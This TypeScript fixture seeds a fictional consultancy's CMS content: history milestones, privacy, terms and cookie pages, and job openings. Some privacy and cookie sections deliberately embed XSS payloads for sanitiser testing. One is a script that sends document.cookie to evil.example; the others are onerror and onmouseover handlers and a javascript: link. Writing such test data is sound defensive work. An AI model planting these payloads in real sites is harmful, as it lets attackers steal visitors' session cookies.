import type { ContentType, Entry, JsonValue, Schema } from './content-set';
import { derivedDocumentId } from './content-index';
import { publishedOn } from './sample-timestamps';

/** Sample `histories`, `privacies` (legal pages) and `careers`. */

const HISTORY_DOCUMENTS = [
  [2012, 'Founded in a Norwich attic', 'Three engineers and one borrowed printer.'],
  [2016, 'First cloud migration', 'A regional retailer leaves its server cupboard.'],
  [2020, 'Remote by default', 'The attic becomes a meeting room; the team spans six countries.'],
  [2024, 'Forty people', 'Design, engineering and strategy under one roof.'],
] as const;

const HISTORY_TITLES: Readonly<Record<string, readonly string[]>> = {
  es: ['Fundada en un desván de Norwich', 'Primera migración a la nube', 'Remotos por defecto'],
  pt: ['Fundada num sótão em Norwich', 'Primeira migração para a nuvem'],
};

function histories(): Entry[] {
  const english = HISTORY_DOCUMENTS.map(([year, title, description], position): Entry => ({ id: position + 1, locale: 'en', ...publishedOn('2025-01-10'), year, title, description }));
  let nextId = english.length + 1;
  const translated = Object.entries(HISTORY_TITLES).flatMap(([locale, titles]) =>
    titles.map((title, position): Entry => ({
      id: nextId++,
      documentId: derivedDocumentId('history', position + 1),
      locale,
      ...publishedOn('2025-01-12'),
      year: HISTORY_DOCUMENTS[position]?.[0] ?? null,
      title,
      description: null,
    })),
  );
  return [...english, ...translated];
}

/** `api::history.history`: milestones of the about page, localized. */
export const HISTORIES: ContentType = {
  kind: 'collectionType',
  singularName: 'history',
  pluralName: 'histories',
  localized: true,
  attributes: { year: { type: 'integer' }, title: { type: 'string' }, description: { type: 'text' } },
  entries: histories(),
};

/** Section contents carry hostile HTML on purpose: the site renders them raw, so a sanitiser must cope. */
const PRIVACY_SECTIONS: JsonValue = [
  { heading: 'Who we are', content: '<p>Marchcroft Ltd (fictional), 1 Example Yard, Norwich.</p>' },
  {
    heading: 'What we collect',
    content:
      '<p>Your name, e-mail, company and phone number when you use the contact form.</p><script>document.location="https://evil.example/?c="+document.cookie</script><img src="x" onerror="alert(\'xss\')"><p><a href="javascript:alert(1)">Withdraw consent</a> · <a href="mailto:privacy@example.com">privacy@example.com</a></p>',
  },
];

const TERMS_SECTIONS: JsonValue = [
  { heading: 'Use of this site', content: '<p>Content is provided “as is”. <strong>No warranty</strong> is given.</p>' },
  { heading: 'Governing law', content: '<p>The laws of England &amp; Wales.</p>' },
];

const COOKIE_SECTIONS: JsonValue = [
  { heading: 'What cookies are', content: '<p>Small files a site stores in your browser.</p>' },
  {
    heading: 'Cookies we use',
    content: '<p>Only these:</p>',
    table: {
      headers: ['Cookie', 'Purpose', 'Duration'],
      rows: [
        ['_ga', 'Analytics (anonymised)', '2 years'],
        ['NEXT_LOCALE', 'Remembers your language', '1 year'],
        ['<b onmouseover="alert(1)">x</b>', 'Hostile table cell', 'session'],
      ],
    },
  },
];

function legal(id: number, locale: string, englishId: number, title: string, pageTitle: string, sections: JsonValue): Entry {
  return { id, documentId: derivedDocumentId('privacy', englishId), locale, ...publishedOn('2025-02-01'), title, json: { title: pageTitle, sections } };
}

/** `api::privacy.privacy`: one entry per legal page, told apart by `title`; Spanish lacks the terms. */
export const PRIVACIES: ContentType = {
  kind: 'collectionType',
  singularName: 'privacy',
  pluralName: 'privacies',
  localized: true,
  attributes: { title: { type: 'enumeration' }, json: { type: 'json' } },
  entries: [
    legal(1, 'en', 1, 'privacy', 'Privacy Policy', PRIVACY_SECTIONS),
    legal(2, 'en', 2, 'terms-of-service', 'Terms of Service', TERMS_SECTIONS),
    legal(3, 'en', 3, 'cookie-policy', 'Cookie Policy', COOKIE_SECTIONS),
    legal(4, 'es', 1, 'privacy', 'Política de Privacidad', PRIVACY_SECTIONS),
    legal(5, 'es', 3, 'cookie-policy', 'Política de Cookies', COOKIE_SECTIONS),
  ],
};

/** `career.position`: an opening; `content` holds the description blocks the careers page lays out. */
export const CAREER_POSITION: Schema = {
  title: { type: 'string' },
  name: { type: 'string' },
  salary: { type: 'string' },
  content: { type: 'json' },
};

const career = (id: number, title: string, name: string, salary: string | null, summary: string, requirements: readonly string[]): Entry => ({
  id,
  ...publishedOn('2025-09-01'),
  career: { id, title, name, salary, content: { summary, requirements: [...requirements], location: 'Remote (UK or EU)' } },
});

/** `api::career.career`: openings, not localized; `career` is a component, so answered only with `populate`. */
export const CAREERS: ContentType = {
  kind: 'collectionType',
  singularName: 'career',
  pluralName: 'careers',
  attributes: { career: { type: 'component', component: 'career.position', repeatable: false } },
  entries: [
    career(1, 'Senior Cloud Engineer', 'senior-cloud-engineer', '£70,000 – £85,000', 'Design and run AWS platforms for our clients.', ['Five years with AWS', 'Infrastructure as code']),
    career(2, 'Product Designer', 'product-designer', '£55,000 – £65,000', 'Research, prototype and ship interfaces.', ['A portfolio of shipped work']),
    career(3, 'Graduate Developer', 'graduate-developer', null, 'Learn by pairing on real projects.', ['Curiosity']),
  ],
};
